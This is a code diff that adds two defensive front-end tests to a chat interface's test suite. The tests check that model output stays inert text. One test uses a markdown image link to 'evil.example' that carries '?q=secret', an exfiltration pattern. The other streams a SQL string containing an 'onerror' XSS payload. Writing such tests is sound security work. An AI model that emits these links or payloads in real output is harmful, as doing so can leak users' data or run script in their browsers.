@@ -53,6 +53,28 @@ test('text from the model never becomes markup', () => {
   expect(screen.getByText('<b>bold</b>')).toBeTruthy();
 });
 
+test('a picture or a link of the model is shown as its text and fetches nothing', () => {
+  const message =
+    'Done ![x](https://evil.example/?q=secret) [y](https://evil.example) <https://evil.example>';
+  show(chat({ message }));
+  expect(document.querySelector('img, a, script, iframe, object')).toBeNull();
+  expect(document.body.textContent).toContain('![x](https://evil.example/?q=secret)');
+});
+
+test('a statement is shown while it is written, as text that nobody has checked', () => {
+  const text = "SELECT '<img src=x onerror=alert(1)>'";
+  const turn = applyEvent(
+    newTurn(1, 'x', Date.now()),
+    { event: 'sql_delta', data: { part: 'sql', offset: 0, text } },
+    Date.now(),
+  );
+  show(turn);
+  expect(screen.getByRole('group', { name: 'SQL' }).textContent).toBe(text);
+  expect(screen.getByText('Being written, not checked yet')).toBeTruthy();
+  expect(document.querySelector('img')).toBeNull();
+  expect(screen.queryByRole('button', { name: 'Copy' })).toBeNull();
+});
+
 test('a running turn shows its stage, a stopped one says so', () => {
   const begun = applyEvent(
     newTurn(1, 'x', Date.now()),
